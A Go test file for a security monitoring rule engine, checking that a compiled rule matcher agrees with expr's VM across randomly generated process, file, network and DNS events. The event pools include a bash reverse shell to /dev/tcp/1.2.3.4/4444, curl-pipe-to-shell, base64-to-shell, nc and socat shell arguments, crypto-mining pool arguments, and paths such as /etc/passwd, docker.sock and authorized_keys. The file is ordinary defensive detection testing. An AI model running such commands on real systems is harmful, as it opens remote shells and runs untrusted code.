package rules

import (
	"math/rand/v2"
	"testing"

	"github.com/expr-lang/expr/vm"

	"github.com/vigilsec/vigil/trace"
)

// fakeIntel knows a few indicators, so intel-dependent branches are taken.
type fakeIntel struct{}

var (
	fakeIPs     = map[string]string{"203.0.113.9": "c2", "198.51.100.7": "mining", "192.0.2.50": "tor"}
	fakeDomains = map[string]string{"evil.example": "malicious", "odd.example": "suspicious", "cc.example": "c2", "pool.example": "mining"}
)

func (fakeIntel) IP(ip string) string    { return fakeIPs[ip] }
func (fakeIntel) Domain(d string) string { return fakeDomains[d] }
func (fakeIntel) Hash(h string) string {
	if h == "aa" {
		return "malware"
	}
	return ""
}
func (fakeIntel) DGA(d string) float64 {
	if d == "xjq3kz9vbw0p.com" {
		return 0.99
	}
	return 0.1
}

// randomEnv draws field values from pools that contain the constants the
// default pack tests, so both outcomes of most conditions occur.
func randomEnv(r *rand.Rand) *Env {
	pick := func(xs ...string) string { return xs[r.IntN(len(xs))] }
	pickI := func(xs ...int) int { return xs[r.IntN(len(xs))] }
	exes := []string{"bash", "sh", "nginx", "nmap", "xmrig", "nc", "socat", "python3", "crontab", "systemctl", "find",
		"getcap", "insmod", "rm", "iptables", "useradd", "sudo", "ping", "tor", "apt-get", "curl", "gdb", "busybox", "at",
		"python3.11", "python3x"}
	args := [][]string{nil, {"x", "-e", "/bin/sh"}, {"x", "-l"}, {"x", "enable", "evil"}, {"x", "/", "-perm", "-4000"},
		{"x", "-r", "/"}, {"x", "-o", "stratum+tcp://p:3333"}, {"x", "-F"}, {"x", "/root/.bash_history"}, {"x", "mod.ko"}, {"x", "EXEC:/bin/sh"}}
	argv := args[r.IntN(len(args))]
	cmd := pick("", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "curl http://x/s | sh", "echo aGk= | base64 -d | sh",
		"history -c", "python3 -c import socket,pty;pty.spawn", "nginx -g daemon off;")
	return &Env{
		Kind: string(trace.Kinds[r.IntN(len(trace.Kinds))]),
		Path: pick("", "/etc/passwd", "/proc/12/mem", "/proc/7/mem", "/proc/9/exe", "/usr/bin/runc", "/etc/cron.d/x",
			"/sys/fs/cgroup/x/release_agent", "/var/run/docker.sock", "/root/.ssh/authorized_keys", "/tmp/a"),
		NewPath: pick("", "/dev/sda1", "/etc/passwd", "tmpfs", "/host"),
		// 7, 65, 195, 325: exec stdio bits (unix sockets; stdin on TCP; stdin
		// and stdout; stdin and stderr).
		Flags:       pickI(0, 1, 2, 4, 5, 16, 64, 512, 577, 7, 65, 195, 325),
		Ret:         pickI(0, -1, 3),
		TargetPID:   pickI(0, 7, 12),
		PathWritten: r.IntN(2) == 0,
		Proc: Proc{ExeName: pick(exes...), Exe: pick("/usr/bin/x", "/memfd:x", "/tmp/a (deleted)"), Argv: argv, Cmdline: cmd,
			PID: pickI(7, 12), UID: pickI(0, 1000), EUID: pickI(0, 1000), PrevEUID: pickI(-1, 0, 1000), SHA256: pick("", "aa", "bb"),
			Ancestors:  [][]string{nil, {"/usr/bin/apt-get"}, {"/bin/bash", "/usr/sbin/nginx"}}[r.IntN(3)],
			ExeWritten: r.IntN(2) == 0, Listener: r.IntN(2) == 0},
		Parent: Parent{ExeName: pick("nginx", "bash", "containerd-shim", "node"), Listener: r.IntN(2) == 0},
		Net: Net{Family: pickI(1, 2, 10), DstIP: pick("127.0.0.1", "169.254.169.254", "203.0.113.9", "198.51.100.7", "192.0.2.50", "/var/run/docker.sock"),
			DstPort: pickI(80, 443, 3333, 9050, 4444)},
		DNS: DNS{Name: pick("example.com", "evil.example", "odd.example", "cc.example", "pool.example", "xmr.nanopool.org",
			"xjq3kz9vbw0p.com", "instance-data.ec2.internal", "rebind.example"), Type: pickI(1, 12),
			Answers: [][]string{nil, {"169.254.169.254"}, {"93.184.216.34"}}[r.IntN(3)]},
		Container: Container{ID: pick("", "c1")},
	}
}

// TestNativeAgreesWithVM checks the closure compiler against expr's VM on
// every default rule: equal answers where it claims to be exact, and never a
// false where the VM says true where it is only a guard. The same holds for
// the rule specialised to the event's kind, where saying the rule can never
// match the kind counts as exact.
func TestNativeAgreesWithVM(t *testing.T) {
	set, err := Load(DefaultSources(), Options{Intel: fakeIntel{}})
	if err != nil {
		t.Fatal(err)
	}
	r := rand.New(rand.NewPCG(1, 2))
	var v vm.VM
	fired := map[string]int{}
	for i := 0; i < 200000; i++ {
		env := randomEnv(r)
		for _, rule := range set.Rules() {
			out, err := v.Run(rule.program, env)
			if err != nil {
				t.Fatalf("%s: %v", rule.ID, err)
			}
			want, got := out.(bool), rule.guard(env)
			if rule.exact && got != want {
				t.Fatalf("%s: native %v, VM %v on %+v", rule.ID, got, want, env)
			}
			if want && !got {
				t.Fatalf("%s: guard rejected an event the VM matches: %+v", rule.ID, env)
			}
			c := rule.byKind[trace.Kind(env.Kind).Index()]
			if got := !c.never && c.guard(env); ((c.exact || c.never) && got != want) || (want && !got) {
				t.Fatalf("%s specialised to %s: %v, VM %v on %+v", rule.ID, env.Kind, got, want, env)
			}
			if want {
				fired[rule.ID]++
			}
		}
	}
	nonNative := 0
	for _, rule := range set.Rules() {
		if fired[rule.ID] == 0 {
			t.Errorf("%s never matched the random events; the comparison did not exercise it", rule.ID)
		}
		if !rule.exact {
			nonNative++
			t.Logf("%s falls back to the VM after its guard", rule.ID)
		}
	}
	t.Logf("%d of %d default rules run fully native", len(set.Rules())-nonNative, len(set.Rules()))
}
